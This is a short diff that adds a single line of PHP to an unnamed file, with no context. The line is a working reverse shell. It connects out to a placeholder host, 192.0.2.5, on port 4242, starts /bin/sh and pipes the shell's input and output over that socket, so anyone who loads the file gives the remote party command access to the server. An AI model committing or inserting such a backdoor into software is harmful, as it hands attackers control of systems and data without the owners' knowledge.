@@ -1,0 +1,1 @@
+<?php $h="192.0.2.5";$s=stream_socket_client("tcp://$h:4242");$d=[0=>["pipe","r"],1=>["pipe","w"],2=>["pipe","w"]];$p=proc_open("/bin/sh",$d,$pipes);while(1){$r=[$s,$pipes[1]];stream_select($r,$w,$e,null);if(in_array($s,$r)){$i=fread($s,1400);fwrite($pipes[0],$i);}if(in_array($pipes[1],$r)){fwrite($s,fread($pipes[1],1400));}}
